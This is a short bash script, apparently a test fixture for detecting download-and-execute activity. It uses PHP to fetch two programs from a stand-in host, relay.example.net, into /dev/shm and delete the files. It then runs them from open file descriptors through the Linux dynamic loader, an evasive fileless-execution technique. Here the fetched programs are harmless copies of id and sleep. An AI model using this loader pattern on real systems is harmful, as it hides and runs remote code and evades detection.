#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=download-execute half=tune tool=php far=out seconds=14 parts=dns,outside-web
# PHP fetches a program into /dev/shm; its name is taken away, and the loader is given what is still open.
# shellcheck disable=SC2016 # PHP has its own variables
if [ "$1" = out ]; then mkdir -p "$LAB/outside/drop"; cp /usr/bin/id "$LAB/outside/drop/agent"; cp /bin/sleep "$LAB/outside/drop/wait"; sleep 16; exit 0; fi
sleep 1
php -r 'foreach (["agent", "wait"] as $n) copy("http://relay.example.net/drop/$n", "/dev/shm/.nwlab-$n") or exit(1);' || exit 1
exec 3</dev/shm/.nwlab-agent 4</dev/shm/.nwlab-wait; rm -f /dev/shm/.nwlab-*
/lib64/ld-linux-x86-64.so.2 /proc/self/fd/3 | grep -q uid=0 && /lib64/ld-linux-x86-64.so.2 /proc/self/fd/4 5
